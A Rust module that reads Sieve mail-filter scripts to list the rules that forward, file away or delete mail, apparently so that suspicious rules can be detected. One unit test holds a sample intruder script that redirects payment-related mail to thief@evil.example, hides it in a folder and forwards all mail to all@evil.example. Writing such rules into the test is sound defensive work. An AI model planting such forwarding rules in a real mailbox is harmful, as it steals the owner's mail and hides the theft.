//! A Sieve script (RFC 5228), read for what it does to mail: forwards, moves, deletes.
//!
//! Reading never fails: what is no Sieve ends the reading with a problem, and the rules up to
//! there count. Nothing is executed. Not here: what a rule means for an account.

use serde_json::{Value, json};

/// A person's script has some kilobytes; the rest is not read.
pub const SCRIPT_BYTES_MAX: usize = 1024 * 1024;
/// More words than any person's script has.
const TOKENS_MAX: usize = 100_000;
/// More rules than a person keeps.
const RULES_MAX: usize = 1_000;
/// Blocks within blocks.
const DEPTH_MAX: usize = 30;
/// Longest condition that is kept; it is there to be recognised.
const CONDITION_BYTES_MAX: usize = 400;

/// What stands in a script.
#[derive(Debug, Default, PartialEq)]
pub struct Script {
    /// Each rule that does something to a mail, in the form that its reader takes.
    pub rules: Vec<Value>,
    /// Scripts that it includes (RFC 6609).
    pub includes: Vec<String>,
    /// What could not be read.
    pub problem: Option<String>,
}

#[derive(Debug, Clone, PartialEq)]
enum Token {
    /// A word, a number, a tag with its colon, or a sign.
    Word(String),
    /// A text in quotation marks, or of several lines.
    Text(String),
    /// The name that mail programs write before a rule: `# rule:[Name]`.
    Name(String),
}

impl Token {
    fn is(&self, word: &str) -> bool {
        matches!(self, Token::Word(own) if own.eq_ignore_ascii_case(word))
    }
}

impl Script {
    /// Reads a script.
    pub fn read(text: &str) -> Script {
        let mut script = Script::default();
        let end = text.floor_char_boundary(SCRIPT_BYTES_MAX);
        let (tokens, whole) = tokens(&text[..end]);
        if !whole || end < text.len() {
            script.problem =
                Some("a script of the mailbox could not be read to its end".to_owned());
        }
        let mut block = Block::default();
        let mut outer: Vec<Block> = Vec::new();
        let mut name = None;
        let mut statement: Vec<Token> = Vec::new();
        for token in tokens {
            match token {
                Token::Name(found) => name = Some(found),
                token if token.is("{") => {
                    let condition = block.condition_of(&statement);
                    let inner = Block {
                        condition,
                        name: name.take().or_else(|| block.name.clone()),
                        ..Block::default()
                    };
                    outer.push(std::mem::replace(&mut block, inner));
                    statement.clear();
                    if outer.len() > DEPTH_MAX {
                        script.problem = Some("a script of the mailbox nests too deep".to_owned());
                        break;
                    }
                }
                token if token.is("}") => {
                    block.end(&mut script);
                    block = outer.pop().unwrap_or_default();
                    statement.clear();
                }
                token if token.is(";") => {
                    block.act(&statement, &mut script);
                    statement.clear();
                }
                token => statement.push(token),
            }
        }
        block.end(&mut script);
        while let Some(mut block) = outer.pop() {
            block.end(&mut script);
        }
        script
    }
}

/// What stands between two braces.
#[derive(Debug, Default)]
struct Block {
    condition: String,
    name: Option<String>,
    forwards: Vec<String>,
    folder: Option<String>,
    deletes: bool,
}

impl Block {
    /// The condition of a block inside of this one, in the script's own words.
    fn condition_of(&self, statement: &[Token]) -> String {
        let words = statement.iter().map(|token| match token {
            Token::Text(text) => format!("\"{text}\""),
            Token::Word(word) | Token::Name(word) => word.clone(),
        });
        let own = words.collect::<Vec<_>>().join(" ");
        let mut both = match self.condition.as_str() {
            "" => own,
            outer => format!("{outer}; {own}"),
        };
        both.truncate(both.floor_char_boundary(CONDITION_BYTES_MAX));
        both
    }

    /// One command.
    fn act(&mut self, statement: &[Token], script: &mut Script) {
        let Some((Token::Word(command), arguments)) = statement.split_first() else {
            return;
        };
        let texts = arguments.iter().filter_map(|token| match token {
            Token::Text(text) => Some(text.clone()),
            _ => None,
        });
        let last = || texts.clone().next_back();
        match command.to_ascii_lowercase().as_str() {
            "redirect" => self.forwards.extend(last()),
            "fileinto" => self.folder = last(),
            "discard" | "reject" | "ereject" => self.deletes = true,
            "addflag" | "setflag" => {
                self.deletes |= texts
                    .clone()
                    .any(|flag| flag.eq_ignore_ascii_case("\\Deleted"));
            }
            "include" => script.includes.extend(last()),
            _ => {}
        }
    }

    /// Tells what the block does to mail, if it does anything.
    fn end(&mut self, script: &mut Script) {
        let block = std::mem::take(self);
        let idle = block.forwards.is_empty() && block.folder.is_none() && !block.deletes;
        if idle || script.rules.len() >= RULES_MAX {
            return;
        }
        let mut rule = json!({ "delete": block.deletes });
        if let Some(name) = block.name {
            rule["name"] = json!(name);
        }
        if !block.condition.is_empty() {
            rule["match"] = json!(block.condition);
        }
        if let Some(folder) = block.folder {
            rule["move_to"] = json!(folder);
        }
        if !block.forwards.is_empty() {
            rule["forward_to"] = json!(block.forwards);
        }
        script.rules.push(rule);
    }
}

/// The words of a script, and whether it was understood to its end.
fn tokens(text: &str) -> (Vec<Token>, bool) {
    let mut found = Vec::new();
    let mut rest = text;
    loop {
        rest = rest.trim_start();
        let Some(first) = rest.chars().next() else {
            return (found, true);
        };
        if found.len() >= TOKENS_MAX {
            return (found, false);
        }
        let Some((token, after)) = next(rest, first) else {
            return (found, false);
        };
        found.extend(token);
        rest = after;
    }
}

/// The next word, if it is none that is passed over, and what follows it.
fn next(rest: &str, first: char) -> Option<(Option<Token>, &str)> {
    if first == '#' {
        let end = rest.find('\n').unwrap_or(rest.len());
        return Some((rule_name(&rest[..end]), &rest[end..]));
    }
    if let Some(comment) = rest.strip_prefix("/*") {
        return Some((None, comment.split_once("*/")?.1));
    }
    if let Some(quoted) = rest.strip_prefix('"') {
        return quoted_text(quoted);
    }
    if rest
        .get(..5)
        .is_some_and(|word| word.eq_ignore_ascii_case("text:"))
    {
        return several_lines(&rest[5..]);
    }
    let plain = |c: char| c.is_ascii_alphanumeric() || c == '_';
    let begin = usize::from(first == ':');
    let end = rest[begin..]
        .find(|c| !plain(c))
        .map_or(rest.len(), |end| begin + end);
    let end = end.max(first.len_utf8());
    let known = plain(first) || "{}[](),;:".contains(first);
    known.then(|| (Some(Token::Word(rest[..end].to_owned())), &rest[end..]))
}

/// Roundcube and others name a rule in a comment before it.
fn rule_name(comment: &str) -> Option<Token> {
    let inner = comment
        .trim_start_matches('#')
        .trim()
        .strip_prefix("rule:[")?;
    let name = inner.trim_end().strip_suffix(']')?;
    Some(Token::Name(name.to_owned()))
}

fn quoted_text(rest: &str) -> Option<(Option<Token>, &str)> {
    let mut text = String::new();
    let mut letters = rest.char_indices();
    while let Some((at, letter)) = letters.next() {
        match letter {
            '"' => return Some((Some(Token::Text(text)), &rest[at + 1..])),
            '\\' => text.push(letters.next()?.1),
            letter => text.push(letter),
        }
    }
    None
}

/// A text of several lines, up to a line with a full stop alone (RFC 5228 section 2.4.2).
fn several_lines(rest: &str) -> Option<(Option<Token>, &str)> {
    let begin = rest.find('\n')? + 1;
    let mut at = begin;
    for line in rest[begin..].split_inclusive('\n') {
        if line.trim_end() == "." {
            let text = rest[begin..at].to_owned();
            return Some((Some(Token::Text(text)), &rest[at + line.len()..]));
        }
        at += line.len();
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_an_intruder_writes() {
        let script = Script::read(
            "require [\"fileinto\", \"copy\", \"imap4flags\"];\r\n# rule:[.]\r\nif anyof (header :contains \"from\" [\"amazon\", \"pay\\\"pal\"], true)\r\n{\r\n  redirect :copy \"thief@evil.example\";\r\n  fileinto \"RSS\";\r\n  stop;\r\n}\r\n/* quietly */ if header :is \"subject\" \"x\" { discard; }\r\nelse { addflag \"\\\\Deleted\"; }\r\nredirect \"all@evil.example\";\r\ninclude :personal \"more\";\r\n",
        );
        assert_eq!(script.problem, None);
        assert_eq!(script.includes, ["more"]);
        assert_eq!(
            script.rules,
            [
                json!({"delete": false, "name": ".", "match": "if anyof ( header :contains \"from\" [ \"amazon\" , \"pay\"pal\" ] , true )",
                    "move_to": "RSS", "forward_to": ["thief@evil.example"]}),
                json!({"delete": true, "match": "if header :is \"subject\" \"x\""}),
                json!({"delete": true, "match": "else"}),
                json!({"delete": false, "forward_to": ["all@evil.example"]}),
            ]
        );
    }

    #[test]
    fn innocent_scripts_and_texts_of_several_lines() {
        let script = Script::read(
            "require \"vacation\";\nvacation :days 7 text:\nredirect \"no@x.example\";\n..\n.\n;\nif size :over 1M { keep; }\n",
        );
        assert_eq!(script, Script::default());
        assert_eq!(Script::read(""), Script::default());
    }

    #[test]
    fn a_block_within_a_block_has_both_conditions() {
        let script = Script::read("if a { if b { discard; } }");
        assert_eq!(
            script.rules,
            [json!({"delete": true, "match": "if a; if b"})]
        );
    }

    #[test]
    fn nonsense_ends_with_a_problem_and_the_rules_before_it_count() {
        for text in [
            "discard; \"",
            "discard; text:\nx",
            "discard; /* x",
            "discard; %",
            "discard; \u{fffd}",
        ] {
            let script = Script::read(text);
            assert_eq!(script.rules.len(), 1, "{text}");
            assert!(script.problem.is_some(), "{text}");
        }
        let deep = "if x {".repeat(1_000) + "discard;";
        assert!(Script::read(&deep).problem.is_some());
        let many = "if x { discard; }".repeat(RULES_MAX + 5);
        assert_eq!(Script::read(&many).rules.len(), RULES_MAX);
        let endless = "a ".repeat(TOKENS_MAX + 5);
        assert!(Script::read(&endless).problem.is_some());
    }
}
